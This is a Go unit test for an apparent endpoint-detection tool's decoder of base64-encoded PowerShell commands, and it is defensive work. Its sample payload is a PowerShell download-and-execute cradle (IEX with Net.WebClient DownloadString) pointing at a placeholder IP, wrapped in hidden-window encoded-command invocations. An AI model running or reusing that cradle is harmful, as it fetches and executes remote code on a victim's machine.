package detect_test

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/picket-edr/picket/internal/detect"
)

func encodeCommand(script string) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(script)) {
		b = append(b, byte(unit), byte(unit>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// What PowerShell takes for an encoded command is decoded, and nothing else.
func TestDecodedCommand(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
	encoded := encodeCommand(script)
	for line, want := range map[string]string{
		"powershell.exe -EncodedCommand " + encoded:                             script,
		"powershell -nop -w hidden -enc " + encoded:                             script,
		`pwsh.exe /e "` + encoded + `"`:                                         script,
		"powershell –ec " + strings.TrimRight(encoded, "="):                     script,
		"powershell -E AAAA -ENC " + encoded + " -File x":                       script,
		"powershell -enc " + encodeCommand("echo \"grüße\"\r\nwhoami"):          "echo \"grüße\"\r\nwhoami",
		"powershell -enc " + encodeCommand("a\x00\x01b whoami"):                 "",
		"powershell -encoding " + encoded:                                       "",
		"powershell -File " + encoded:                                           "",
		"grep -e " + base64.StdEncoding.EncodeToString([]byte("Hello, world!")): "",
		"sed -e s/a/b/":   "",
		"powershell -enc": "",
		"":                "",
	} {
		if got := detect.DecodedCommand(line); got != want {
			t.Errorf("%s:\n%q, want\n%q", line, got, want)
		}
	}
	long := detect.DecodedCommand("powershell -enc " + encodeCommand(strings.Repeat("whoami;", 100_000)))
	if n := len(long); n < 2000 || n > 6000 || !strings.HasPrefix(long, "whoami;") {
		t.Errorf("of a long script: %d bytes", n)
	}
}
